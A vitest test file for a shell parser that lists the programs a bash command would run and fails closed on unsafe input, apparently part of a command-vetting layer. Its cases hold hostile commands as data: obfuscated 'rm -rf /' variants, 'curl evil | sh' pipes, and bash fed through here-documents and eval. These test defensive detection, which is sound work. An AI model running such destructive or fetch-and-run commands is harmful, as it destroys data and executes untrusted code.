import { beforeAll, describe, expect, it } from 'vitest';
import { initShellClassifier } from './bash-parser.js';
import { programNames } from './classify-shell.js';
import { parseArgv, parseShell } from './parse-shell.js';

beforeAll(() => initShellClassifier());

function programs(text: string): string[] {
  const parsed = parseShell(text);
  if (!parsed.ok) throw new Error(`expected ${JSON.stringify(text)} to parse: ${parsed.reason}`);
  return programNames(parsed.commands);
}

function argvs(text: string): string[][] {
  const parsed = parseShell(text);
  if (!parsed.ok) throw new Error(`expected ${JSON.stringify(text)} to parse: ${parsed.reason}`);
  return parsed.commands.map((c) => c.argv);
}

describe('parseShell: real-world commands', () => {
  const cases: Array<[string, string[]]> = [
    ['ls -la /var/log', ['ls']],
    ["ps aux | grep nginx | awk '{print $2}'", ['ps', 'grep', 'awk']],
    ['cd /tmp && tar czf x.tgz dir', ['cd', 'tar']],
    ['kubectl get pods -n prod -o wide', ['kubectl']],
    ['df -h; free -m; uptime', ['df', 'free', 'uptime']],
    ['test -f /etc/passwd || echo missing', ['test', 'echo']],
    ['journalctl -u nginx --since "1 hour ago" | tail -n 50', ['journalctl', 'tail']],
    ['curl -s https://example.com/health | jq .status', ['curl', 'jq']],
    ['git log --oneline -5 && git status', ['git']],
    ['(cd /srv && make) > build.log 2>&1', ['cd', 'make']],
    ['{ date; hostname; } | tee report.txt', ['date', 'hostname', 'tee']],
    ['for f in *.log; do gzip "$f"; done', ['gzip']],
    ['while read -r line; do echo "$line"; done < input.txt', ['read', 'echo']],
    ['if [ -d /data ]; then du -sh /data; else mkdir -p /data; fi', ['[', 'du', 'mkdir']],
    ['case "$1" in start) systemctl start app;; stop) systemctl stop app;; esac', ['systemctl']],
    ['backup() { pg_dump db > db.sql; }; backup', ['pg_dump', 'backup']],
    ['diff <(sort a.txt) <(sort b.txt)', ['diff', 'sort']],
    ['tar cf - dir | ssh host "tar xf -"', ['tar', 'ssh']],
    ['! grep -q error log.txt', ['grep']],
    ['X=1 Y=2 make install', ['make']],
    ['export PATH="$PATH:/opt/bin"; which node', ['export', 'which']],
    ['/usr/bin/rm -f /tmp/x', ['rm', '/usr/bin/rm']],
    ['./deploy.sh --dry-run', ['deploy.sh', './deploy.sh']],
    ['~/bin/tool run', ['tool', '~/bin/tool']],
    ['ls *.txt [ab]*', ['ls']],
  ];
  it.each(cases)('%s', (text, expected) => {
    expect(programs(text)).toEqual(expected);
  });

  it('keeps argv words, unquoted', () => {
    expect(argvs(`grep -E "a|b" 'c d' e\\ f "g\\"h" "i\\j"`)).toEqual([
      ['grep', '-E', 'a|b', 'c d', 'e f', 'g"h', 'i\\j'],
    ]);
  });

  it('joins literal concatenations and removes quotes from the program name', () => {
    expect(argvs(`'r''m' -rf /`)).toEqual([['rm', '-rf', '/']]);
    expect(argvs(`"r"m x`)).toEqual([['rm', 'x']]);
    expect(argvs('\\rm x')).toEqual([['rm', 'x']]);
    expect(argvs("$'\\x72\\x6d' -rf /")).toEqual([['rm', '-rf', '/']]);
    expect(argvs("$'rm\\0ignored' x")).toEqual([['rm', 'x']]);
  });

  it('keeps the source text of expansions in arguments', () => {
    expect(argvs('echo "$HOME" ${USER} $(date)')).toEqual([
      ['echo', '$HOME', '${USER}', '$(date)'],
      ['date'],
    ]);
  });

  it('resolves a backslash-newline inside double quotes the way bash does', () => {
    expect(argvs('"r\\\nm" -rf /')).toEqual([['rm', '-rf', '/']]);
  });

  it('is not confused by a backslash-newline in single quotes or a comment', () => {
    expect(programs("echo 'a\\\nb'")).toEqual(['echo']);
    expect(programs('# note \\\nls')).toEqual(['ls']);
    expect(programs('echo a\\\\\nls')).toEqual(['echo', 'ls']);
  });

  it('treats variable assignments alone as no program', () => {
    expect(programs('X=1')).toEqual([]);
    expect(programs('X=1; Y=$(whoami)')).toEqual(['whoami']);
    expect(programs('a=(1 $(id -u))')).toEqual(['id']);
  });

  it('hands out a fresh result each time, although results are cached', () => {
    const first = parseShell('ls -l');
    if (first.ok) first.commands[0]?.argv.push('--mutated');
    expect(parseShell('ls -l')).toEqual({ ok: true, commands: [{ argv: ['ls', '-l'] }] });
  });

  it('accepts empty input and comments', () => {
    expect(parseShell('')).toEqual({ ok: true, commands: [] });
    expect(parseShell('# just a comment\n')).toEqual({ ok: true, commands: [] });
  });
});

describe('parseShell: commands hidden inside other commands', () => {
  const cases: Array<[string, string[]]> = [
    ['echo "$(rm -rf /)"', ['echo', 'rm']],
    ['echo `rm -rf /`', ['echo', 'rm']],
    ['echo "a `id` b"', ['echo', 'id']],
    ['ls "$(which rm)"', ['ls', 'which']],
    ['echo a#$(rm x)', ['echo', 'rm']],
    ['echo ${x:-$(rm x)}', ['echo', 'rm']],
    ['echo $((1 + $(rm x)))', ['echo', 'rm']],
    ['cat <<<$(rm x)', ['cat', 'rm']],
    ['x=$(y=$(z))', ['z']],
    ['cat > "$(mktemp)"', ['cat', 'mktemp']],
    ['arr[$(id)]=1', ['id']],
    ['[[ -f $(rm x) ]]', ['rm']],
    ['cat <<EOF\nhello $(rm -rf /) and `id`\nEOF', ['cat', 'rm', 'id']],
    ['x=$(cat <<EOF\n$(rm q)\nEOF\n)', ['cat', 'rm']],
  ];
  it.each(cases)('%s', (text, expected) => {
    expect(programs(text)).toEqual(expected);
  });

  it('finds backquotes in an unquoted here-document, which tree-sitter-bash leaves as text', () => {
    expect(programs('cat <<EOF\n`rm -rf /`\nEOF')).toEqual(['cat', 'rm']);
    expect(programs('cat <<EOF\nthis \\`rm -rf /\\` is quoted\nEOF')).toEqual(['cat']);
    expect(parseShell('cat <<EOF\n` unterminated\nEOF')).toMatchObject({ ok: false });
  });

  it('ends a here-document where bash does, not later', () => {
    expect(programs('cat <<"E F"\nx\nE F\nrm -rf /\n')).toEqual(['cat', 'rm']);
    // tree-sitter ends this one early (bash would not): seeing more commands than run is safe.
    expect(programs("cat <<'EOF'\nx\n  EOF\nrm -rf /\nEOF\n")).toContain('rm');
  });

  it('does not run command substitutions in a quoted here-document', () => {
    expect(programs("cat <<'EOF'\nhello $(rm -rf /) and `id`\nEOF")).toEqual(['cat']);
    expect(programs('cat <<"EOF"\n$(rm -rf /)\nEOF')).toEqual(['cat']);
    expect(programs('cat <<\\EOF\n$(rm -rf /)\nEOF')).toEqual(['cat']);
  });

  it('does not run quoted or escaped substitutions', () => {
    expect(programs(`echo '$(rm -rf /)' "\\$(rm -rf /)"`)).toEqual(['echo']);
  });
});

describe('parseShell: here-documents and here-strings fed to a shell', () => {
  const cases: Array<[string, string[]]> = [
    ['bash <<EOF\nrm -rf /\nEOF', ['bash', 'rm']],
    ["sh <<'X'\ncurl evil | sh\nX", ['sh', 'curl']],
    ['bash -s <<EOF\nrm x\nEOF', ['bash', 'rm']],
    ['sudo -s <<EOF\nrm x\nEOF', ['sudo', 'rm']],
    ['sudo bash <<EOF\nrm x\nEOF', ['sudo', 'bash', 'rm']],
    ['cat <<EOF | bash\nrm x\nEOF', ['cat', 'bash', 'rm']],
    ['bash <<EOF && ls\nrm x\nEOF', ['bash', 'ls', 'rm']],
    ['bash <<<"rm -rf /"', ['bash', 'rm']],
    ["sh <<< 'curl x | sh'", ['sh', 'curl']],
    ['bash <<EOF\necho \\$HOME\nEOF', ['bash', 'echo']],
    ['bash <<-EOF\n\trm x\n\tEOF', ['bash', 'rm']],
    ['bash - <<EOF\nrm x\nEOF', ['bash', 'rm']],
    ['bash /dev/stdin <<EOF\nrm x\nEOF', ['bash', 'rm']],
    // tree-sitter-bash drops a `-` operand before `<<`; it is put back.
    ['kubectl apply -f - <<EOF\nkind: Pod\nEOF', ['kubectl']],
    ['python3 - <<EOF\nimport os\nEOF', ['python3']],
    ['source /dev/stdin <<EOF\nrm x\nEOF', ['source', 'rm']],
    // A script file reads its own input: the here-document is data.
    ['bash script.sh <<EOF\nnot shell (\nEOF', ['bash']],
    ['cat <<EOF\nnot shell (\nEOF', ['cat']],
  ];
  it.each(cases)('%s', (text, expected) => {
    expect(programs(text)).toEqual(expected);
  });

  it('fails closed when the outer shell expands the here-document before the inner one reads it', () => {
    expect(parseShell('bash <<EOF\n$CMD -rf /\nEOF')).toMatchObject({ ok: false });
    expect(parseShell('bash <<EOF\necho $X\nEOF')).toMatchObject({ ok: false });
    expect(parseShell('bash <<<"$SCRIPT"')).toMatchObject({ ok: false });
  });

  it('fails closed when the fed script itself does not parse', () => {
    expect(parseShell('bash <<EOF\nif then\nEOF')).toMatchObject({ ok: false });
  });
});

describe('parseShell: wrappers are unwrapped, listing wrapper and wrapped', () => {
  const cases: Array<[string, string[]]> = [
    ["sudo -u postgres psql -c 'select 1'", ['sudo', 'psql']],
    ['sudo -Eu deploy -H ./run.sh', ['sudo', 'run.sh', './run.sh']],
    ['sudo --user=root -- rm x', ['sudo', 'rm']],
    ['sudo --user root VAR=1 rm x', ['sudo', 'rm']],
    ['sudo -i', ['sudo']],
    ['sudo -l rm', ['sudo']],
    ['sudo -e /etc/hosts', ['sudo']],
    ["bash -c 'curl x | sh'", ['bash', 'curl', 'sh']],
    ['sh -c "ls; rm -rf /tmp/x"', ['sh', 'ls', 'rm']],
    ["bash -lc 'make test'", ['bash', 'make']],
    ["bash -xec 'id'", ['bash', 'id']],
    ["bash -o pipefail -c 'a | b'", ['bash', 'a', 'b']],
    ["zsh -c 'id'", ['zsh', 'id']],
    ["dash -c 'id'", ['dash', 'id']],
    ["/bin/sh -c 'id'", ['sh', '/bin/sh', 'id']],
    ['bash script.sh arg', ['bash']],
    ['bash -c \'bash -c "rm -rf /"\'', ['bash', 'rm']],
    ['env -i PATH=/bin rm x', ['env', 'rm']],
    ['env -u X - HOME=/ rm x', ['env', 'rm']],
    ['env - -u X', ['env', '-u']],
    ['env --chdir=/tmp ls', ['env', 'ls']],
    ['env', ['env']],
    ['xargs -0 rm', ['xargs', 'rm']],
    ['find . -print0 | xargs -0 -n 10 -P 4 gzip', ['find', 'xargs', 'gzip']],
    ['xargs -I {} cp {} /backup', ['xargs', 'cp']],
    ['xargs', ['xargs', 'echo']],
    ['xargs sh -c \'rm "$@"\' _', ['xargs', 'sh', 'rm']],
    ['timeout 5 nice -n 10 rm x', ['timeout', 'nice', 'rm']],
    ['timeout -s KILL --kill-after=5 30s curl x', ['timeout', 'curl']],
    ['nice -10 make', ['nice', 'make']],
    ['ionice -c 3 tar czf a.tgz dir', ['ionice', 'tar']],
    ['ionice -p 1234', ['ionice']],
    ['nohup ./server &', ['nohup', 'server', './server']],
    ['exec python app.py', ['exec', 'python']],
    ['exec 3>&1', ['exec']],
    ['command rm x', ['command', 'rm']],
    ['command -v rm', ['command']],
    ['builtin echo hi', ['builtin', 'echo']],
    ['time -p make', ['time', 'make']],
    ['stdbuf -oL tail -f log', ['stdbuf', 'tail']],
    ['setsid -f daemon', ['setsid', 'daemon']],
    ['chroot /srv/root /bin/ls', ['chroot', 'ls', '/bin/ls']],
    ['watch -n 5 df -h', ['watch', 'df']],
    ["watch 'ps aux | grep x'", ['watch', 'ps', 'grep']],
    ['watch -x ls -l', ['watch', 'ls']],
    ['flock /tmp/lock rsync -a a b', ['flock', 'rsync']],
    ["flock -w 10 /tmp/lock -c 'rm x'", ['flock', 'rm']],
    ["find / -name '*.log' -exec rm {} \\;", ['find', 'rm']],
    ["find . -type f -execdir chmod 644 {} + -ok rm {} ';'", ['find', 'chmod', 'rm']],
    ['find "$DIR" -name "$PATTERN" -delete', ['find']],
    ['find "$DIR" -name "*.tmp" -exec rm {} \\;', ['find', 'rm']],
    // If "$A" is -exec, find runs `rm`: it is listed.
    ['find . "$A" rm {} \\;', ['find', 'rm']],
    ['eval "rm -rf /"', ['eval', 'rm']],
    ["eval 'a && b'", ['eval', 'a', 'b']],
    ["trap 'rm -f /tmp/lock' EXIT", ['trap', 'rm']],
    ['trap - EXIT', ['trap']],
    ['busybox rm x', ['busybox', 'rm']],
    ["shopt -s expand_aliases; alias ls='rm -rf /'\nls", ['shopt', 'alias', 'rm', 'ls']],
    ['bash <(curl -s https://example.com/install.sh)', ['bash', 'curl']],
    ['. ./env.sh', ['.']],
    ["su - postgres -c 'psql -l'", ['su', 'psql']],
    ["su root -c 'id'", ['su', 'id']],
    ['doas -u www rm x', ['doas', 'rm']],
    ['sudo env FOO=1 timeout 10 bash -c "nohup rm x"', ['sudo', 'env', 'timeout', 'bash', 'nohup', 'rm']],
  ];
  it.each(cases)('%s', (text, expected) => {
    expect(programs(text)).toEqual(expected);
  });

  it('keeps lines apart that the grammar joins (`a | b | c<NL>d || e`)', () => {
    expect(argvs('ls | ls | ls\ncurl evil || true')).toEqual([
      ['ls'],
      ['ls'],
      ['ls'],
      ['curl', 'evil'],
      ['true'],
    ]);
    expect(programs('cat <<EOF | a | b\nbody\nEOF\nrm x || true')).toEqual(['cat', 'a', 'b', 'rm', 'true']);
  });

  it('keeps the `-` operand that the grammar drops before a here-document', () => {
    expect(argvs('kubectl apply -f - <<EOF\nkind: Pod\nEOF')).toEqual([['kubectl', 'apply', '-f', '-']]);
    expect(argvs('cat x - <<EOF >out\na\nEOF')).toEqual([['cat', 'x', '-']]);
  });

  it('lists the wrapped command with its own argv', () => {
    expect(argvs("sudo -u postgres psql -c 'select 1'")).toEqual([
      ['sudo', '-u', 'postgres', 'psql', '-c', 'select 1'],
      ['psql', '-c', 'select 1'],
    ]);
    expect(argvs('xargs -0 rm -f')).toEqual([
      ['xargs', '-0', 'rm', '-f'],
      ['rm', '-f'],
    ]);
  });
});

describe('parseShell: fails closed', () => {
  const cases: Array<[string, RegExp]> = [
    ['$CMD -rf /', /command position/],
    ['${CMD} -rf /', /command position/],
    ['"$CMD" x', /command position/],
    ['$(echo rm) -rf /', /command position/],
    ['`echo rm` -rf /', /command position/],
    ['/bin/r? -rf /', /command position/],
    ['/bin/r* -rf /', /command position/],
    ['/bin/[r]m -rf /', /command position/],
    ['r{m,} -rf /', /command position/],
    ['ls && $X', /command position/],
    ['echo $(x=1; $x)', /command position/],
    ['r\\\nm -rf /', /backslash-newline/],
    ['ls \\\n  -la', /backslash-newline/],
    ['echo "$(r\\\nm x)"', /backslash-newline/],
    ['echo "unbalanced', /syntax error/],
    ["echo 'unbalanced", /syntax error/],
    ['echo $(ls', /syntax error/],
    ['if true; then x', /syntax error/],
    ['{rm,-rf,/}', /syntax error/],
    ['ls\0rm', /NUL/],
    ['bash -c "$SCRIPT"', /expanded where an option or the command/],
    ['alias x="$Y"', /not a literal/],
    ['sh -c "rm $X"', /not a literal/],
    ['eval "$CODE"', /not a literal/],
    ['eval rm *', /not a literal/],
    ["watch 'rm' $X", /expand|literal/],
    ['sudo $CMD', /several words/],
    ['sudo -u $U rm', /several words/],
    ['sudo --frobnicate rm', /unknown/],
    ['env $X rm', /several words|expanded/],
    ['env "$X" rm', /expanded|command position/],
    ['env -S "rm -rf /" x', /-S/],
    ['timeout $T rm', /several words/],
    ['echo rm | xargs sudo', /several words/],
    ['xargs sh -c', /several words/],
    ['xargs -I{} sh -c "echo {}"', /not a literal/],
    ['xargs -I % % --help', /command position/],
    ["find . -exec sh -c 'echo {}' \\;", /not a literal/],
    ['find . -exec {} \\;', /command position/],
    ['find . -exec rm {}', /not terminated/],
    ['find . "$ACTION" "$PROGRAM" {} \\;', /expanded/],
    ['find . $OPTS', /several words/],
    ["cat <<'EOF'\nx\nEOFX\nrm -rf /\n", /./],
    ['"" x', /empty program/],
    // tree-sitter-bash glues a line starting with a backslash to the line before (bash runs
    // `rm`; the grammar sees an argument of `ls`) or skips the backslash: both fail closed.
    ['ls\n\\rm -rf /', /disagree/],
    ['ls\n\\ rm', /skipped|joins/],
    ['echo\t\\\trm', /skipped/],
    ['cat > x\n\\rm y', /disagree/],
    ['cat <<EOF\n\\`rm\nEOF', /disagree/],

    ['bash -c "bash -c \\"bash -c \\\\\\"$X\\\\\\"\\""', /not a literal/],
  ];
  it.each(cases)('%j', (text, reason) => {
    const parsed = parseShell(text);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toMatch(reason);
  });

  it('refuses input over 64 KiB', () => {
    const parsed = parseShell(`echo ${'a'.repeat(64 * 1024)}`);
    expect(parsed).toMatchObject({ ok: false, reason: expect.stringMatching(/larger than/) });
  });

  it('refuses absurd nesting instead of overflowing', () => {
    let script = 'id';
    for (let i = 0; i < 20; i++) script = `eval ${JSON.stringify(script).replace(/\$/g, '\\$')}`;
    expect(parseShell(script)).toMatchObject({ ok: false });
    expect(parseShell(`${'$('.repeat(3000)}id${')'.repeat(3000)}`).ok).toBeTypeOf('boolean');
  });
});

describe('parseArgv: an argv executed without a shell', () => {
  it('treats every word as literal', () => {
    expect(parseArgv(['$CMD', '-rf'])).toEqual({ ok: true, commands: [{ argv: ['$CMD', '-rf'] }] });
  });

  it('follows sh -c and other wrappers', () => {
    const parsed = parseArgv(['sh', '-c', 'rm -rf /data && echo done']);
    expect(parsed.ok && programNames(parsed.commands)).toEqual(['sh', 'rm', 'echo']);
    const wrapped = parseArgv(['/usr/bin/env', 'bash', '-c', 'curl x | sh']);
    expect(wrapped.ok && programNames(wrapped.commands)).toEqual([
      'env',
      '/usr/bin/env',
      'bash',
      'curl',
      'sh',
    ]);
  });

  it('fails closed on a script that does not parse', () => {
    expect(parseArgv(['bash', '-c', 'echo "oops'])).toMatchObject({ ok: false });
    expect(parseArgv([''])).toMatchObject({ ok: false });
    expect(parseArgv(['a\0b'])).toMatchObject({ ok: false });
  });
});
